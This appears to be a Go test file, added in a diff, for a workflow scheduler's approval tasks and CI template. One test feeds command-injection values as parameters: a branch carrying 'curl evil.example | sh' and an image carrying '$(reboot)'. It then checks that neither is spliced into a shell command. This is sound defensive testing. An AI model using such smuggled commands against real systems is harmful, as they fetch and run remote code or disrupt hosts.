@@ -0,0 +1,60 @@
+package core
+
+import (
+	"context"
+	"strings"
+	"testing"
+)
+
+func TestApprovalTasksWaitWithoutAWorker(t *testing.T) {
+	store := newFakeStore()
+	broker := newFakeBroker()
+	workflow := &Workflow{ID: "wf-1", Status: WorkflowStatusRunning}
+	workflow.Tasks = []Task{
+		{ID: "approve", WorkflowID: "wf-1", Name: "approve", Type: ApprovalTaskType, Status: TaskStatusPending},
+	}
+	store.add(workflow)
+
+	s := newTestScheduler(store, broker)
+	task, _ := store.GetTask("approve")
+	queue, err := s.prepareDispatch(context.Background(), task)
+	if err != nil {
+		t.Fatalf("prepareDispatch() error = %v", err)
+	}
+	if queue || len(broker.enqueued) != 0 {
+		t.Errorf("approval task was queued for a worker")
+	}
+
+	task, _ = store.GetTask("approve")
+	if task.Status != TaskStatusRunning {
+		t.Errorf("approval task is %s, want running until approved", task.Status)
+	}
+}
+
+func TestCIWithApprovalTemplatePassesParamsAsArgs(t *testing.T) {
+	branch := `main; curl evil.example | sh`
+	workflow, err := ciWithApprovalTemplate().Instantiate(map[string]interface{}{
+		"repo_url": "https://example.com/repo.git",
+		"branch":   branch,
+		"image":    "app:$(reboot)",
+	})
+	if err != nil {
+		t.Fatalf("Instantiate() error = %v", err)
+	}
+
+	for _, task := range workflow.Tasks {
+		command, ok := task.Payload["command"].(string)
+		if !ok {
+			continue
+		}
+		if strings.Contains(command, "evil") || strings.Contains(command, "reboot") {
+			t.Errorf("task %s runs %q, which has a param spliced in", task.Name, command)
+		}
+		if task.Name == "checkout" {
+			args, _ := task.Payload["args"].([]interface{})
+			if len(args) != 2 || args[0] != branch {
+				t.Errorf("checkout args = %v, want the branch and repo URL", args)
+			}
+		}
+	}
+}